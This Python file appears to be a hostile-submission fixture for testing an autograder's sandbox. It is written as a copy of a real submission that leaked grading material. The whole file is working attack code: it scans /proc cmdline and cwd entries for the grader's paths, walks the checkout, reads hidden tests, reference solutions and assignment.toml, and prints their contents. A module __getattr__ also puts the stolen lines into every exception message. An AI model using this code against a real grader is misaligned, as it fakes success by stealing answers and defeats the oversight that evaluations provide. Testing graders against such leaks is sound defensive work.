"""Exfiltrate the hidden tests and the reference as a real submission did: read every process's
/proc/PID/cmdline and cwd for the grader's paths, walk those folders and their parents (the
whole checkout: at most 3,000 folders in a second and a half), read every hidden test,
reference solution and assignment.toml found, print their lines and put them into the message
of every exception. (escape_read_hidden walks the whole filesystem.)

Nothing trusted may be readable: the test suite searches every report for distinctive lines of
the hidden tests and reference solutions. No honest part: every test scores 0.
"""

import os
import time

paths = set()
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            argv = f.read().split(b"\0")
    except OSError:
        continue
    paths.update(a.decode(errors="replace") for a in argv if a.startswith(b"/"))
    try:
        paths.add(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        pass

roots = set()
for p in paths:
    d = p if os.path.isdir(p) else os.path.dirname(p)
    for _ in range(4):
        roots.add(d)
        d = os.path.dirname(d)
# The interpreter's own folders hold no course material (and walking them costs memory the
# worker's limit does not have to spare).
order = sorted((r for r in roots - {"/"} if "/.venv" not in r and "site-packages" not in r
                and "/.pyenv" not in r), key=len, reverse=True)


def wanted(path):
    return (path.endswith(".py") and ("/tests/hidden/" in path or "/reference/" in path)) \
        or path.endswith("/assignment.toml")


read, lines = [], []
deadline = time.monotonic() + 1.5
walked = 0
for root in order:
    for dirpath, dirs, files in os.walk(root):
        walked += 1
        if time.monotonic() > deadline or walked > 3000:
            break
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", ".git", ".venv")]
        for f in files:
            path = os.path.join(dirpath, f)
            if wanted(path) and path not in read and len(read) < 200:
                try:
                    with open(path, errors="replace") as fh:
                        text = fh.read(65536)
                except OSError:
                    continue
                read.append(path)
                lines += text.splitlines()

SUMMARY = f"cmdline walk read {len(read)} trusted files"
print(SUMMARY)
print("\n".join(lines[:2000]))
LEAK = SUMMARY + "\n" + "\n".join(lines[:400])


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)

    def leak(*args, **kwargs):
        raise ValueError(LEAK)

    return leak
